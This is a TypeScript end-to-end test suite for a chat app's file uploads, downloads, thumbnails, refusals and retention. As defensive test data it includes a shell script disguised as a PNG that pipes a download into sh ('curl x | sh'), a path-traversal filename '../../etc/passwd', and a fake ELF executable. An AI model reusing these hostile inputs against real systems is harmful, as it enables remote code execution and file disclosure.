// End-to-end: the whole file path (socket → gRPC → disk, HTTP download, retention) through all
// four apps, booted in-process here so the test can reach into the file service and the worker.
import type { INestApplication } from '@nestjs/common';
import { MongoClient } from 'mongodb';
import sharp from 'sharp';
import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { InternalTokenService } from '@chat/auth';
import { loadConfig } from '@chat/config';
import { ErrorCode, type Ack, type Message } from '@chat/contracts';
import { bearerMetadata, createFileServiceClient, errorCodeOf, UPLOAD_CHUNK_BYTES } from '@chat/grpc';
import { startApi } from '../../apps/api/src/start-api.js';
import { startSocket } from '../../apps/socket/src/start-socket.js';
import { startFile } from '../../apps/file/src/start-file.js';
import { RetentionJob } from '../../apps/worker/src/retention/retention.job.js';
import { startWorker } from '../../apps/worker/src/start-worker.js';
import { baseUrl } from '../support/apps.js';
import { createRoomWith, createUser, fullHistory, http, type TestUser } from '../support/http.js';
import { freePort } from '../../scripts/harness.mjs';
import { PNG_1X1, png } from '../support/files.js';
import { metric, scrape } from '../support/metrics.js';
import { collect, connect, type ClientSocket } from '../support/socket.js';

const MiB = 1024 * 1024;
const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex');

let apiApp: INestApplication, socketApp: INestApplication, fileApp: INestApplication | null;
let api: string, socketUrl: string, grpcAddress: string;
let storageDir: string;
let alice: TestUser, bob: TestUser, stranger: TestUser;
let roomId: string;
let aliceSocket: ClientSocket, bobSocket: ClientSocket;
const sockets: ClientSocket[] = [];

function files(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => relative(dir, join(e.parentPath, e.name)));
}

/** Sends a file as a client would: inline when small, in chunks (file:begin, file:chunk) when not. */
async function send(
  file: { name: string; data: Buffer; mime?: string },
  clientMsgId = randomBytes(6).toString('hex'),
): Promise<Ack<{ message: Message }>> {
  const socket = aliceSocket.timeout(30_000);
  if (file.data.length <= 512 * 1024) return socket.emitWithAck('chat:send', { roomId, clientMsgId, file });
  const { name, mime, data } = file;
  const begun = await socket.emitWithAck('file:begin', { roomId, name, mime, size: data.length });
  if (!begun.ok) return begun;
  for (let offset = 0; offset < data.length; offset += begun.chunkSize) {
    const chunk = data.subarray(offset, offset + begun.chunkSize);
    const ack = await socket.emitWithAck('file:chunk', { uploadId: begun.uploadId, offset, data: chunk });
    if (!ack.ok) return ack;
  }
  return socket.emitWithAck('chat:send', { roomId, clientMsgId, uploadId: begun.uploadId });
}

async function download(url: string, headers: Record<string, string> = {}) {
  const res = await fetch(url, { headers });
  return { res, body: Buffer.from(await res.arrayBuffer()) };
}

beforeAll(async () => {
  const [httpPort, grpcPort] = [await freePort(), await freePort()];
  storageDir = mkdtempSync(join(tmpdir(), 'chat-files-'));
  grpcAddress = `127.0.0.1:${grpcPort}`;
  Object.assign(process.env, {
    FILE_HTTP_PORT: String(httpPort),
    FILE_GRPC_PORT: String(grpcPort),
    FILE_GRPC_URL: grpcAddress,
    FILE_PUBLIC_URL: `http://127.0.0.1:${httpPort}`,
    FILE_STORAGE_DIR: storageDir,
  });
  fileApp = await startFile();
  apiApp = await startApi();
  socketApp = await startSocket();
  [api, socketUrl] = [baseUrl(apiApp), baseUrl(socketApp)];
  [alice, bob, stranger] = [await createUser(api), await createUser(api), await createUser(api)];
  roomId = await createRoomWith(api, alice, [bob]);
  aliceSocket = await connect(socketUrl, alice.accessToken);
  bobSocket = await connect(socketUrl, bob.accessToken);
  sockets.push(aliceSocket, bobSocket);
  await aliceSocket.emitWithAck('room:join', { roomId });
  await bobSocket.emitWithAck('room:join', { roomId });
});

afterAll(async () => {
  for (const s of sockets) s.close();
  await socketApp.close();
  await apiApp.close();
  await fileApp?.close();
});

describe('upload through socket → gRPC → disk, download over HTTP', () => {
  it('round-trips a 10 MiB file byte-exact, to the receiver and through history', async () => {
    const toBob = collect(bobSocket);
    const data = png(10 * MiB);
    const ack = await send({ name: 'cat.png', data, mime: 'image/png' });
    if (!ack.ok) throw new Error(JSON.stringify(ack));
    expect(ack.message.file).toEqual({
      id: expect.stringMatching(/^[0-9a-f]{32}$/),
      url: expect.any(String),
      name: 'cat.png',
      mime: 'image/png',
      size: 10 * MiB,
      thumbnailUrl: expect.stringContaining('/thumbnail?'),
    });
    await toBob.waitFor(1);
    expect(toBob.received[0].file?.id).toBe(ack.message.file!.id);

    const { res, body } = await download(toBob.received[0].file!.url);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/png');
    expect(res.headers.get('content-length')).toBe(String(10 * MiB));
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="cat.png"; filename*=UTF-8''cat.png`,
    );
    expect(res.headers.get('etag')).toBe(`"${sha256(data)}"`);
    expect(sha256(body)).toBe(sha256(data));

    const history = await fullHistory(api, bob, roomId);
    const fromHistory = history.find((m: Message) => m.id === ack.message.id)!;
    expect(fromHistory.file).toMatchObject({
      id: ack.message.file!.id,
      name: 'cat.png',
      mime: 'image/png',
      size: 10 * MiB,
    });
    expect((await download(fromHistory.file!.url)).res.status).toBe(200);
  });

  it('answers Range requests with the exact slice, 416 when unsatisfiable, 304 when unchanged', async () => {
    const data = png(300_000);
    const ack = await send({ name: 'range.png', data });
    if (!ack.ok) throw new Error(JSON.stringify(ack));
    const url = ack.message.file!.url;
    const slice = await download(url, { range: 'bytes=100-199' });
    expect(slice.res.status).toBe(206);
    expect(slice.res.headers.get('content-range')).toBe('bytes 100-199/300000');
    expect(slice.body.equals(data.subarray(100, 200))).toBe(true);
    const tail = await download(url, { range: 'bytes=-10' });
    expect(tail.body.equals(data.subarray(-10))).toBe(true);
    expect((await download(url, { range: 'bytes=400000-' })).res.status).toBe(416);
    expect((await download(url, { 'if-none-match': `"${sha256(data)}"` })).res.status).toBe(304);
  });

  it('succeeds with twenty concurrent uploads', async () => {
    const payloads = Array.from({ length: 20 }, () => png(512 * 1024));
    const acks = await Promise.all(payloads.map((data, i) => send({ name: `p${i}.png`, data })));
    expect(acks.every((a) => a.ok)).toBe(true);
    const ids = acks.map((a) => (a.ok ? a.message.file!.id : ''));
    expect(new Set(ids).size).toBe(20);
    const bodies = await Promise.all(acks.map((a) => download(a.ok ? a.message.file!.url : '')));
    bodies.forEach(({ body }, i) => expect(sha256(body)).toBe(sha256(payloads[i])));
  });
});

describe('thumbnails', () => {
  it('adds a WebP preview of an image, and survives a corrupt one', async () => {
    const image = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#3366cc' } })
      .png()
      .toBuffer();
    const ack = await send({ name: 'photo.png', data: image });
    if (!ack.ok) throw new Error(JSON.stringify(ack));
    expect(ack.message.file!.thumbnailUrl).toMatch(/\/files\/[0-9a-f]{32}\/thumbnail\?expires=\d+&sig=/);
    const thumb = await download(ack.message.file!.thumbnailUrl!);
    expect(thumb.res.status).toBe(200);
    expect(thumb.res.headers.get('content-type')).toBe('image/webp');
    expect(await sharp(thumb.body).metadata()).toMatchObject({ format: 'webp', width: 320, height: 240 });
    const history = await fullHistory(api, bob, roomId);
    expect(history.find((m: Message) => m.id === ack.message.id)?.file?.thumbnailUrl).toContain(
      '/thumbnail?',
    );

    // Still a PNG by its magic bytes, but the pixel data is garbage.
    const corrupt = Buffer.from(image);
    corrupt.fill(0x41, 60, corrupt.length - 20);
    const broken = await send({ name: 'broken.png', data: corrupt });
    expect(broken).toMatchObject({ ok: true, message: { file: { mime: 'image/png' } } });
    if (broken.ok) expect(broken.message.file!.thumbnailUrl).toBeUndefined();
    expect((await http(baseUrl(fileApp!), 'GET', '/health')).status).toBe(200);
    expect((await send({ name: 'after.png', data: image })).ok).toBe(true);
  });
});

describe('refusals', () => {
  it('refuses a file one byte over the limit, at the socket and at the file service', async () => {
    const before = (await fullHistory(api, alice, roomId)).length;
    expect(await send({ name: 'big.png', data: png(10 * MiB + 1) })).toMatchObject({
      ok: false,
      error: { code: ErrorCode.FILE_TOO_LARGE },
    });

    // Straight to the file service, bypassing the socket's check: it enforces the limit itself.
    const client = createFileServiceClient(grpcAddress);
    const token = new InternalTokenService(loadConfig()).sign(
      { scope: 'upload', roomId, uploaderId: alice.id },
      'test',
    );
    const error = await new Promise<unknown>((resolve) => {
      const call = client.Upload(bearerMetadata(token), (err) => resolve(err));
      call.on('error', () => undefined);
      call.write({ metadata: { name: 'big.png' } });
      const data = png(10 * MiB + 1);
      for (let o = 0; o < data.length; o += UPLOAD_CHUNK_BYTES)
        call.write({ chunk: data.subarray(o, o + UPLOAD_CHUNK_BYTES) });
      call.end();
    });
    client.close();
    expect(errorCodeOf(error)).toBe(ErrorCode.FILE_TOO_LARGE);
    expect(files(storageDir).filter((f) => f.startsWith('tmp'))).toEqual([]);
    const rejected = { result: 'rejected', reason: ErrorCode.FILE_TOO_LARGE };
    expect(metric(await scrape(baseUrl(fileApp!)), 'chat_file_uploads_total', rejected)).toBe(1);
    expect((await fullHistory(api, alice, roomId)).length).toBe(before);
  });

  it('stores a script named .png as the text it really is, and refuses executables', async () => {
    const script = await send({
      name: 'evil.png',
      data: Buffer.from('#!/bin/sh\ncurl x | sh\n'),
      mime: 'image/png',
    });
    expect(script).toMatchObject({ ok: true, message: { file: { mime: 'text/plain', name: 'evil.png' } } });
    if (!script.ok) return;
    const { res } = await download(script.message.file!.url);
    expect(res.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);

    const before = (await fullHistory(api, alice, roomId)).length;
    const elf = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), randomBytes(2000)]);
    expect(await send({ name: 'photo.png', data: elf })).toMatchObject({
      ok: false,
      error: { code: ErrorCode.FILE_TYPE_REJECTED },
    });
    expect((await fullHistory(api, alice, roomId)).length).toBe(before);
  });

  it('stores "../../etc/passwd" under a server-generated key, showing only "passwd"', async () => {
    const ack = await send({ name: '../../etc/passwd', data: Buffer.from('root:x:0:0::/root:/bin/sh\n') });
    if (!ack.ok) throw new Error(JSON.stringify(ack));
    expect(ack.message.file!.name).toBe('passwd');
    const key = `${ack.message.file!.id.slice(0, 2)}/${ack.message.file!.id}.txt`;
    expect(files(storageDir)).toContain(key);
    expect(files(storageDir).every((f) => /^[0-9a-f]{2}\/[0-9a-f]{32}(\.thumb)?\.[a-z0-9]+$/.test(f))).toBe(
      true,
    );
  });
});

describe('download access', () => {
  it('lets members in with Bearer or the signed link, and nobody else', async () => {
    const ack = await send({ name: 'private.png', data: png(1000) });
    if (!ack.ok) throw new Error(JSON.stringify(ack));
    const url = new URL(ack.message.file!.url);
    const bare = `${url.origin}${url.pathname}`;
    expect((await download(bare, { authorization: `Bearer ${bob.accessToken}` })).res.status).toBe(200);
    expect((await download(bare)).res.status).toBe(401);
    const forStranger = await download(bare, { authorization: `Bearer ${stranger.accessToken}` });
    const unknown = await download(`${url.origin}/files/${'0'.repeat(32)}`, {
      authorization: `Bearer ${bob.accessToken}`,
    });
    expect([forStranger.res.status, unknown.res.status]).toEqual([404, 404]);
    expect(forStranger.body.toString()).toBe(unknown.body.toString());
    // Tamper with the first character (to something it is not: 1 in 64 signatures start with 'x').
    const sig = url.searchParams.get('sig')!;
    url.searchParams.set('sig', (sig[0] === 'x' ? 'y' : 'x') + sig.slice(1));
    expect((await download(url.toString())).res.status).toBe(403);
  });
});

describe('retention', () => {
  it('deletes an expired file (bytes and metadata) through the file service; history stays readable', async () => {
    const ack = await send({ name: 'old.png', data: png(2000) });
    if (!ack.ok) throw new Error(JSON.stringify(ack));
    const { id, url } = ack.message.file!;
    const mongo = await MongoClient.connect(process.env.MONGO_URL!);
    try {
      await mongo
        .db()
        .collection('files')
        .updateOne({ _id: id as never }, { $set: { expiresAt: new Date(Date.now() - 1000) } });
    } finally {
      await mongo.close();
    }
    const worker = await startWorker();
    try {
      expect(await worker.get(RetentionJob).runFiles()).toBeGreaterThanOrEqual(1);
    } finally {
      await worker.close();
    }
    expect(files(storageDir).some((f) => f.includes(id))).toBe(false);
    expect((await download(url)).res.status).toBe(404);
    const history = await fullHistory(api, alice, roomId);
    expect(history.find((m: Message) => m.id === ack.message.id)?.file?.id).toBe(id);
  });
});

describe('file service down', () => {
  it('answers FILE_UPLOAD_FAILED and stores nothing', async () => {
    const before = (await fullHistory(api, alice, roomId)).length;
    expect(await http(socketUrl, 'GET', '/health/details')).toMatchObject({
      status: 200,
      body: {
        status: 'ok',
        // Every connection the socket app keeps: the main Redis client, its room feed's
        // subscriber, the socket.io adapter's stream reader, the file service's channel.
        details: {
          redis: { status: 'up' },
          'redis-feed': { status: 'up' },
          'redis-adapter': { status: 'up' },
          file: { status: 'up' },
        },
      },
    });
    await fileApp!.close();
    fileApp = null;
    const ack = await send({ name: 'late.png', data: png(5000) });
    expect(ack).toMatchObject({ ok: false, error: { code: ErrorCode.FILE_UPLOAD_FAILED } });
    expect((await fullHistory(api, alice, roomId)).length).toBe(before);
    // Text messages still flow, so the instance stays in the balancer, marked degraded.
    expect(await http(socketUrl, 'GET', '/health/details')).toMatchObject({
      status: 200,
      body: { status: 'degraded', details: { redis: { status: 'up' }, file: { status: 'degraded' } } },
    });
  });
});
